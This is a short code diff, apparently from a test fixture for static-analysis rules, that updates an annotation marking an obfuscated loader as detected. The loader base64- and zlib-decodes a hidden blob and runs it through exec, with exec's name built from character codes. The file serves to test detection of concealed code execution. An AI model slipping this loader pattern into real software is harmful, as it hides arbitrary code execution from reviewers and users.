@@ -38,7 +38,7 @@ def load_backend(device="cuda"):
 def _bootstrap():
     code = compile(zlib.decompress(base64.b64decode(_PRELUDE)), "<tsfast-jit>", "exec")  # sabotage: MLS401 (semgrep rules)
     runner = getattr(importlib.import_module("builtins"), "".join(map(chr, (101, 120, 101, 99))))
-    runner(code, {"__name__": "tsfast_jit"})  # todoruleid: family 8 (missed)
+    runner(code, {"__name__": "tsfast_jit"})  # ruleid: MLS401, MLS402
 
 
 def _register_startup_hook():
